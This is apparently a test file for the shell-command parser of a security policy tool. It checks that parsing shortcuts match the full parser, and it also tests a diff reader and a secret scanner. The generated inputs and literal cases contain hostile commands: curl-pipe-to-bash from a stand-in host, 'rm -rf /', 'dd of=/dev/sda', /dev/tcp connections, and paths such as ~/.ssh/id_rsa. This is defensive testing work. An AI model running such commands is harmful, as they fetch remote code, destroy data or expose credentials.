"""The cold-path shortcuts of shell analysis read every command exactly as the full parser does.

``split_simple`` (lists of simple pipelines of plain words, read without the lexer),
``quick_result`` (such lists whose programs only run, built without drafts) and the other
shortcuts (``write_targets`` skipping parts that write nothing, ``file_ops`` of a bare program,
the diff reader, tool arguments as JSON) are checked against the slow way on generated input.
"""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from codor.model import freeze, thaw
from codor.policy.diff import parse_patch
from codor.policy.guards.secrets import _arguments_json
from codor.policy.secret_scanner import default_scanner
from codor.policy.shell import file_ops, parse_argv, parse_command, write_targets
from codor.policy.shell.fast import quick_result, split_simple
from codor.policy.shell.parser import (
    _LexingParser,
    _parse_argv_full,
    _parse_full,
    _Parser,
    _results,
)

# -- generated commands -----------------------------------------------------------------------
# Words the fast path accepts, words it must refuse (reserved words, assignments, syntax) and
# programs the parser treats specially (wrappers, interpreters, cd, find, awk, echo feeding a
# shell...), so that generated commands cross every boundary of the shortcuts.
_WORDS = [
    "ls", "-la", "cat", "x", "a.txt", "/etc/passwd", "~/.ssh/id_rsa", "curl", "wget",
    "http://x.example/i.sh", "https://a.b/c?d=e&f=g", "bash", "sh", "zsh", "-c", "-s", "-i",
    "-", "python3", "python", "-m", "pip", "node", "perl", "-e", "sudo", "env", "FOO=1", "A=b",
    "k=v", "timeout", "5", "xargs", "nohup", "nice", "exec", "command", "eval", "watch",
    "flock", "su", "runuser", "script", "busybox", "uv", "run", "poetry", "cd", "/tmp", "..",
    "pushd", "popd", "export", "X=y", "declare", "find", ".", "-exec", "-delete", "awk",
    "gawk", "echo", "printf", "hi", "rm", "-rf", "/", "*.py", "a?b", "tee", "out", "cp", "mv",
    "dd", "of=/dev/sda", "if=x", "chmod", "-R", "777", "git", "push", "--force", "nc",
    "/dev/tcp/1.2.3.4/80", "sed", "-i", "s/a/b/", "grep", "-e", "pat", "touch", "mkdir", "-p",
    "ln", "-s", "rsync", "user@host:p", "scp", "if", "then", "fi", "do", "done", "for", "in",
    "while", "until", "case", "esac", "time", "select", "function", "coproc", "elif", "else",
    "!", "{", "}", "[[", "]]", "[", "]", "a:b", "@x", "%y", "+z", "^", ",", "=", "a=", "~",
    "--", "--opt=val", "2", "12", "é", "#c",
]
_OPS = [" ", " ", " ", " ", "  ", "\t", " \r", " | ", "|", " |& ", " && ", "&&", " || ",
        "; ", ";", ";;", ";&", " & ", "&", "\n", "\n\n", " ;\n", " |\n", " &&\n", " > ",
        " 2>&1 ", " < ", " $(", ")", " `", '"', "'", "\\", " # ", "(", ")", "{ ", " }",
        "\x0b", "\u00a0"]

_COMMANDS = st.lists(st.tuples(st.sampled_from(_WORDS), st.sampled_from(_OPS)),
                     min_size=1, max_size=10).map(lambda ws: "".join(w + o for w, o in ws))
_SIMPLE_OPS = [" ", " ", " ", " | ", " && ", " || ", "; ", " & ", "\n", " |& "]
_SIMPLE_COMMANDS = st.lists(
    st.tuples(st.sampled_from(_WORDS[:40]), st.sampled_from(_SIMPLE_OPS)),
    min_size=1, max_size=10).map(lambda ws: "".join(w + o for w, o in ws).strip())


def _full(command: str) -> object:
    """The parse with every string read by the lexer (no shortcut at all)."""
    return _parse_full(command, _LexingParser)


def _same(got: object, want: object) -> None:
    assert got == want
    assert repr(got) == repr(want)
    assert [p.program for p in got.parts] == [p.program for p in want.parts]  # type: ignore[attr-defined]


@settings(max_examples=1000, deadline=None)
@given(_COMMANDS)
def test_the_fast_path_reads_commands_like_the_lexer(command: str) -> None:
    want = _full(command)
    _same(_parse_full(command, _Parser), want)  # split_simple, at every level
    _same(parse_command(command), want)  # and quick_result first
    quick = quick_result(command)
    if quick is not None:
        _same(quick, want)


@settings(max_examples=800, deadline=None)
@given(_SIMPLE_COMMANDS)
def test_simple_pipelines_take_the_fast_path_and_agree(command: str) -> None:
    want = _full(command)
    _same(_parse_full(command, _Parser), want)
    _same(parse_command(command), want)
    quick = quick_result(command)
    if quick is not None:
        _same(quick, want)


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="ab -|&;\n\t\r", max_size=40))
def test_operators_and_blanks_alone_are_read_alike(command: str) -> None:
    _same(_parse_full(command, _Parser), _full(command))
    _same(parse_command(command), _full(command))


@settings(max_examples=300, deadline=None)
@given(_COMMANDS)
def test_nested_strings_take_the_fast_path_alike(command: str) -> None:
    # the fast path also reads the strings given to bash -c, eval, xargs, watch...
    for wrapped in (f"bash -c '{command}'", f"eval {command}", f"sudo -s {command}"):
        if "'" not in command:
            _same(_parse_full(wrapped, _Parser), _full(wrapped))


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from([*_WORDS, "a b", "'q'", "$X", ""]), min_size=0, max_size=5))
def test_an_argv_takes_the_shortcut_alike(argv: list[str]) -> None:
    _same(parse_argv(tuple(argv)), _parse_argv_full(tuple(argv)))


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("ls -la", [[["ls", "-la"]]]),
        ("curl http://x.example/i.sh | bash", [[["curl", "http://x.example/i.sh"], ["bash"]]]),
        ("a && b || c; d & e\nf", [[["a"]], [["b"]], [["c"]], [["d"]], [["e"]], [["f"]]]),
        ("a |& b", [[["a"], ["b"]]]),
        ("a;", [[["a"]]]),
        ("\n a &\n", [[["a"]]]),
        ("a &&\n b", [[["a"]], [["b"]]]),
        ("a |\n\n b", [[["a"], ["b"]]]),
        ("git log --oneline -n 5", [[["git", "log", "--oneline", "-n", "5"]]]),
    ],
)
def test_split_simple_reads_plain_pipelines(command: str, expected: list[object]) -> None:
    assert split_simple(command) == expected


@pytest.mark.parametrize(
    "command",
    [
        "", "  ", "echo 'a'", 'echo "a"', "echo $HOME", "echo `id`", "echo \\x", "ls # c",
        "ls > f", "ls 2>&1", "cat < f", "(ls)", "{ ls; }", "echo {a,b}", "[[ -f x ]]",
        "X=1 ls", "if true; then ls; fi", "time ls", "! ls", "for x in a; do ls; done",
        "a ;; b", "a ; ; b", "; a", "a |", "a &&", "| a", "a && || b", "a\n&& b", "a & & b",
        "ls é", "ls\x0bx", "ls\u00a0x", "ls\x0cx",
    ],
)
def test_split_simple_leaves_everything_else_to_the_parser(command: str) -> None:
    assert split_simple(command) is None
    _same(parse_command(command), _full(command))


@pytest.mark.parametrize(
    "command",
    [
        "sudo curl x | sh", "env X=1 bash -c ls", "bash -c ls", "cd /tmp && rm -rf x",
        "find . -delete", "awk x", "python3 -c exec", "echo ls | sh", "printf ls | bash",
        "xargs rm", "timeout 5 curl x", "export A=b", "perl -e x",
    ],
)
def test_quick_result_leaves_programs_that_do_more_to_the_parser(command: str) -> None:
    assert split_simple(command) is not None
    assert quick_result(command) is None
    _same(parse_command(command), _full(command))


def test_the_shortcuts_keep_the_security_properties() -> None:
    # wrappers are unwrapped, compound commands split, pipes into a shell marked
    parts = parse_command("sudo env X=1 timeout 5 bash -c ls && curl x | bash").parts
    assert [p.argv for p in parts] == [("ls",), ("curl", "x"), ("bash",)]
    assert parts[0].wrappers == ("sudo", "env", "timeout", "bash")
    assert parts[2].stdin_from == (1,) and parts[2].sink == "shell"
    quick = quick_result("curl http://x.example/i.sh | bash")
    assert quick is not None and quick.parts[1].sink == "shell"
    assert quick.parts[1].stdin_from == (0,)
    assert parse_command("echo rm -rf / | sh").parts[-1].argv == ("rm", "-rf", "/")


def test_too_many_commands_still_stop_the_parser() -> None:
    command = ";".join(["ls"] * 4001)
    assert quick_result(command) is None
    result = parse_command(command)
    assert result.unparseable and result.error == "too many commands"
    _same(result, _full(command))


# -- write targets and file operations --------------------------------------------------------
def _write_targets_slow(command: str) -> tuple[str, ...]:
    """write_targets as defined: every write or delete of every part (no part skipped)."""
    from codor.policy.shell.fileops import _joined

    paths: dict[str, None] = {}
    for result in _results(command, None):
        for p in result.parts:
            for op in file_ops(p):
                if op.op in ("write", "delete") and op.path and op.path != "-":
                    paths[_joined(op.path, p.cwd)] = None
    return tuple(paths)


@settings(max_examples=600, deadline=None)
@given(_COMMANDS)
def test_write_targets_skips_only_parts_that_write_nothing(command: str) -> None:
    assert write_targets(command) == _write_targets_slow(command)


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(_WORDS))
def test_a_bare_program_touches_no_file(word: str) -> None:
    for p in _full(word).parts:  # type: ignore[attr-defined]
        if not p.redirects and len(p.argv) < 2:
            assert file_ops(p) == []


# -- the diff reader --------------------------------------------------------------------------
def _parse_patch_slow(text: str) -> tuple[object, ...]:
    """The diff reader written plainly (one startswith test after another)."""
    files: list[tuple[object, ...]] = []
    old = new = None
    added: list[str] = []
    removed: list[str] = []
    in_file = in_hunk = False

    def strip(raw: str) -> str | None:
        path = raw.split("\t", 1)[0].strip()
        if path.startswith('"') and path.endswith('"') and len(path) >= 2:
            path = path[1:-1]
        if path == "/dev/null":
            return None
        return path[2:] if path.startswith(("a/", "b/")) else path

    lines = text.split("\n")
    i = 0
    while i < len(lines):
        line = lines[i]
        if line.startswith("--- ") and i + 1 < len(lines) and lines[i + 1].startswith("+++ "):
            if in_file:
                files.append((old, new, tuple(added), tuple(removed)))
            old, new = strip(line[4:]), strip(lines[i + 1][4:])
            added, removed = [], []
            in_file, in_hunk = True, False
            i += 2
            continue
        if line.startswith("diff --git "):
            in_hunk = False
        elif line.startswith("@@"):
            in_hunk = in_file
        elif in_hunk and line.startswith("+"):
            added.append(line[1:])
        elif in_hunk and line.startswith("-"):
            removed.append(line[1:])
        i += 1
    if in_file:
        files.append((old, new, tuple(added), tuple(removed)))
    return tuple(files), len(text.encode("utf-8", "surrogatepass"))


_DIFF_LINES = st.lists(st.sampled_from([
    "--- a/x.py", "+++ b/x.py", "--- /dev/null", "+++ b/new.py", '--- "a/q x"', "+++ c",
    "@@ -1,2 +1,3 @@", "@@", "@x", "diff --git a/x b/x", "+added", "-removed", " context",
    "+++ not a header", "--- lone", "+", "-", "", "d", "é+", "\t+x",
]), max_size=25).map("\n".join)


@settings(max_examples=800, deadline=None)
@given(_DIFF_LINES)
def test_the_diff_reader_agrees_with_the_plain_reading(text: str) -> None:
    info = parse_patch(text)
    got = tuple((f.old_path, f.new_path, f.added, f.removed) for f in info.files), info.size
    assert got == _parse_patch_slow(text)
    paths: list[str] = []
    for f in info.files:
        paths.extend(p for p in (f.old_path, f.new_path) if p is not None and p not in paths)
    assert info.paths == tuple(paths) and info.paths == tuple(paths)  # computed once, kept


# -- secrets: tool arguments and findings -----------------------------------------------------
_JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=10),
    lambda children: st.lists(children, max_size=4)
    | st.dictionaries(st.text(max_size=6), children, max_size=4),
    max_leaves=20)


@settings(max_examples=150, deadline=None)
@given(st.dictionaries(st.text(max_size=8), _JSON_VALUES, max_size=5))
def test_tool_arguments_json_is_json_dumps_of_the_thawed_arguments(args: dict[str, object]) -> None:
    frozen = freeze(args)
    want = json.dumps(thaw(frozen), ensure_ascii=False, separators=(",", ":"), default=str)
    assert _arguments_json.__wrapped__(frozen) == want


def test_a_token_inside_an_assignment_is_reported_once_by_its_kind() -> None:
    scanner = default_scanner()
    kinds = [m.kind for m in scanner.scan("token=AKIA0000000000001234")]
    assert kinds == ["aws_access_key"]
    # with no specific finding in it, a random-looking value is still generic
    kinds = [m.kind for m in scanner.scan("api_token = 'q8Zr3kX9vLm2Tt7Wb4Yp6Nf1'")]
    assert kinds == ["generic_high_entropy_assignment"]
